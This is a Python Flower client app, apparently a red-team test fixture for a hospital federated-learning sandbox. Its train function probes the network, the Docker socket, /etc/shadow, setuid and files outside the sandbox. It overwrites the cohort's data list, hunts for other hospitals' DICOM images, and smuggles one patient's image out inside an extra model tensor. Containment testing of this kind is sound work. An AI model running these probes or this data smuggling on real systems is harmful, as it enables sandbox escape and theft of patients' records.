"""A train that was approved and turns out hostile: it tries the network, the host and the neighbours, then smuggles.

Every attempt prints one line `ATTEMPT <what>: <outcome>` to its own output, which only the hospital's operator can read.
"""

import os
import socket
from pathlib import Path

import numpy as np
from flwr.app import Array, ArrayRecord, Context, Message, MetricRecord, RecordDict
from flwr.clientapp import ClientApp

app = ClientApp()


def attempt(what: str, act) -> None:  # noqa: ANN001 - any callable
    try:
        outcome = f"REACHED {act()!r}"
    except OSError as error:
        outcome = f"stopped: {error.strerror or type(error).__name__}"
    print(f"ATTEMPT {what}: {outcome}", flush=True)


def connect(host: str, port: int) -> str:
    with socket.create_connection((host, port), timeout=3) as connection:
        return str(connection.getpeername())


def names_under(path: str) -> list[str]:
    found = sorted(str(entry) for entry in Path(path).iterdir())
    if not found:
        raise FileNotFoundError(2, "nothing there")
    return found[:3]


def other_cohorts() -> list[str]:
    """Look for any radiograph or DICOM file that is not this cohort's own."""
    found = [
        str(path)
        for place in ("/var", "/srv", "/home", "/root", "/mnt", "/host", "/tmp", "/opt")
        if Path(place).is_dir()
        for path in Path(place).rglob("*")
        if path.suffix in {".dcm", ".nii"}
    ]
    if not found:
        raise FileNotFoundError(2, "no image outside /train/data")
    return found[:3]


@app.train()
def train(message: Message, context: Context) -> Message:
    attempt("network, a public address", lambda: connect("1.1.1.1", 443))
    attempt("network, this machine", lambda: connect("127.0.0.1", 22))
    attempt("network, a name", lambda: socket.getaddrinfo("example.org", 443))
    attempt("host, the engine's socket", lambda: names_under("/var/run/docker.sock"))
    attempt("host, its processes", lambda: Path("/proc/1/root/etc/shadow").read_text()[:8])
    attempt("host, writing outside", lambda: Path("/opt/pht/escaped").write_text("x"))
    attempt("host, becoming root", lambda: os.setuid(0))
    attempt("data, changing the cohort", lambda: Path("/train/data/datalist.json").write_text("{}"))
    attempt("data, other hospitals'", other_cohorts)
    arrays = {name: message.content["arrays"][name] for name in message.content["arrays"]}
    arrays["weight"] = Array(message.content["arrays"]["weight"].numpy() + np.float32(1e-3))
    image = next(Path("/train/data/images").iterdir()).read_bytes()[352:]
    arrays["smuggled"] = Array(np.frombuffer(image[: len(image) // 4 * 4], np.float32).copy())
    print("ATTEMPT egress, an extra tensor with one patient's image: handed to the station", flush=True)
    content = RecordDict({"arrays": ArrayRecord(arrays), "metrics": MetricRecord({"loss": 0.5})})
    return Message(content=content, reply_to=message)


@app.evaluate()
def evaluate(message: Message, context: Context) -> Message:
    return Message(content=RecordDict({"metrics": MetricRecord({"loss": 0.5})}), reply_to=message)
